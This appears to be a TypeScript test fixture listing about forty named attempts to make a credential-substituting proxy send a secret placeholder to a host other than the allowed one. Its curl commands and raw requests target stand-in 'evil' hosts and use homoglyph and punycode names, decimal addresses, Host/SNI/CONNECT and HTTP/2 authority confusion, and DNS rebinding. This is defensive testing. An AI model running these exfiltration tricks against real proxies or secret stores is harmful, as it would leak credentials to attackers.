import { type Attempt, type Field, raw } from './attempt.ts';

const get = (host: string, { placeholder }: Field, extra = '') =>
  `GET /echo HTTP/1.1\r\nHost: ${host}\r\nx-key: ${placeholder}\r\n${extra}Connection: close\r\n\r\n`;
const curl = (url: string, { placeholder }: Field) =>
  `curl -s -k -m 10 -H 'x-key: ${placeholder}' '${url}'; echo done`;
const portOf = (host: string) => host.split(':')[1];

/** Attempts to have the value put into a request that goes elsewhere. */
export const NAMES: Attempt[] = [
  { name: 'another host', command: (field) => curl(`https://${field.evil}/`, field) },
  { name: 'another host, in plain HTTP', command: (field) => curl(`http://${field.evilPlain}/`, field) },
  {
    name: "another host's query",
    command: ({ evilPlain, placeholder }) => `curl -s 'http://${evilPlain}/?q=${placeholder}'`,
  },
  {
    name: "another host's body",
    command: ({ evilPlain, placeholder }) => `curl -s -d 'a=${placeholder}' http://${evilPlain}/`,
  },
  {
    name: 'another host, in Basic',
    command: ({ evilPlain, placeholder }) => `curl -s -u 'x:${placeholder}' http://${evilPlain}/`,
  },
  {
    name: "another host's multipart body",
    command: ({ evil, placeholder }) => `curl -s -k -F 'a=${placeholder}' https://${evil}/`,
  },
  { name: 'the listed host in plain HTTP', command: (field) => curl(`http://${field.apiPlain}/`, field) },
  {
    name: 'the listed host in plain HTTP, by CONNECT',
    command: (field) => raw({ connect: field.apiPlain, send: get(field.apiPlain, field) }),
  },
  { name: 'another port of the listed host', command: (field) => curl(`https://${field.apiOther}/`, field) },
  { name: 'a name below the listed one', command: (field) => curl(`https://x.${field.api}/`, field) },
  { name: 'a name that ends like it', command: (field) => curl(`https://evil-${field.api}/`, field) },
  {
    name: 'a name that begins like it',
    command: (field) => curl(`https://api.test.evil.test:${portOf(field.evil)}/`, field),
  },
  {
    name: 'a name that looks like it',
    command: (field) => curl(`https://\u0430pi.test:${portOf(field.api)}/`, field),
  },
  {
    name: 'the punycode of that name',
    command: (field) => curl(`https://xn--pi-7kc.test:${portOf(field.api)}/`, field),
  },
  {
    name: "the listed host's address",
    command: (field) =>
      raw({ connect: `127.0.0.1:${portOf(field.api)}`, sni: 'api.test', send: get(field.api, field) }),
  },
  {
    name: 'the address as a number',
    command: (field) =>
      raw({ connect: `2130706433:${portOf(field.evil)}`, sni: 'api.test', send: get(field.api, field) }),
  },
  { name: 'user information in a URL', command: (field) => curl(`https://api.test@${field.evil}/`, field) },
  {
    name: 'user information in CONNECT',
    command: (field) =>
      raw({ connect: `api.test@${field.evil}`, sni: 'api.test', send: get(field.api, field) }),
    answers: /40[03]/,
  },
  {
    name: 'a CONNECT with two hosts',
    command: (field) =>
      raw({ connect: `${field.api}\r\nHost: ${field.evil}`, sni: 'evil.test', send: get(field.evil, field) }),
  },
  {
    name: 'SNI of the listed host on the way elsewhere',
    command: (field) => raw({ connect: field.evil, sni: 'api.test', send: get(field.api, field) }),
  },
  {
    name: 'SNI of another host on the way to the listed one',
    command: (field) => raw({ connect: field.api, sni: 'evil.test', send: get(field.api, field) }),
    answers: /error/,
  },
  {
    name: 'Host of another host',
    command: (field) => raw({ connect: field.api, sni: 'api.test', send: get(field.evil, field) }),
    answers: /421/,
  },
  {
    name: 'Host without its port',
    command: (field) => raw({ connect: field.api, sni: 'api.test', send: get('api.test', field) }),
    answers: /421/,
  },
  {
    name: 'two Hosts',
    command: (field) =>
      raw({ connect: field.api, sni: 'api.test', send: get(field.api, field, `Host: ${field.evil}\r\n`) }),
    answers: /4(00|21)/,
  },
  {
    name: 'the Host twice',
    command: (field) =>
      raw({ connect: field.api, sni: 'api.test', send: get(field.api, field, `Host: ${field.api}\r\n`) }),
    answers: /4(00|21)/,
  },
  {
    name: 'an absolute target in the tunnel',
    command: (field) =>
      raw({
        connect: field.api,
        sni: 'api.test',
        send: get(field.api, field).replace('/echo', `https://${field.evil}/echo`),
      }),
    answers: /421/,
  },
  {
    name: 'an absolute target and the listed Host',
    command: (field) =>
      raw({ connect: null, send: get(field.api, field).replace('/echo', `http://${field.evilPlain}/echo`) }),
  },
  {
    name: 'https in an absolute target',
    command: (field) =>
      raw({ connect: null, send: get(field.api, field).replace('/echo', `https://${field.api}/echo`) }),
    answers: /400/,
  },
  {
    name: 'CONNECT inside the tunnel',
    command: (field) =>
      raw({
        connect: field.api,
        sni: 'api.test',
        send: `CONNECT ${field.evil} HTTP/1.1\r\nHost: ${field.evil}\r\nx-key: ${field.placeholder}\r\n\r\n`,
      }),
  },
  {
    name: 'the authority of HTTP/2',
    command: (field) =>
      raw({
        connect: field.api,
        sni: 'api.test',
        send: '',
        headers: { ':authority': field.evil, 'x-key': field.placeholder },
      }),
    answers: /421/,
  },
  {
    name: 'a host beside the authority of HTTP/2',
    command: (field) =>
      raw({
        connect: field.api,
        sni: 'api.test',
        send: '',
        headers: { ':authority': field.api, host: field.evil, 'x-key': field.placeholder },
      }),
    answers: /421|error/,
  },
  {
    name: 'an absolute path of HTTP/2',
    command: (field) =>
      raw({
        connect: field.api,
        sni: 'api.test',
        send: '',
        headers: { ':path': `https://${field.evil}/`, 'x-key': field.placeholder },
      }),
    answers: /421|error/,
  },
  {
    name: 'CONNECT of HTTP/2',
    command: (field) =>
      raw({
        connect: field.api,
        sni: 'api.test',
        send: '',
        headers: { ':method': 'CONNECT', ':authority': field.evil, 'x-key': field.placeholder },
      }),
    answers: /421|error/,
  },
  {
    name: 'a name that now leads to an attacker',
    command: (field) => curl(`https://rebound.test:${portOf(field.evil)}/`, field),
    answers: /^done/,
  },
  {
    name: "another agent's placeholder",
    command: ({ api, othersPlaceholder }) => `curl -s -H 'x-key: ${othersPlaceholder}' https://${api}/echo`,
    answers: /jettson-secret-[0-9a-f]{20}/,
  },
  {
    name: 'mixed case',
    command: (field) => curl(`https://API.Test:${portOf(field.api)}/echo`, field),
    reaches: 1,
    answers: /jettson-secret-[0-9a-f]{20}/,
  },
  {
    name: 'a trailing dot',
    command: (field) => curl(`https://api.test.:${portOf(field.api)}/echo`, field),
    reaches: 1,
    answers: /jettson-secret-[0-9a-f]{20}/,
  },
];
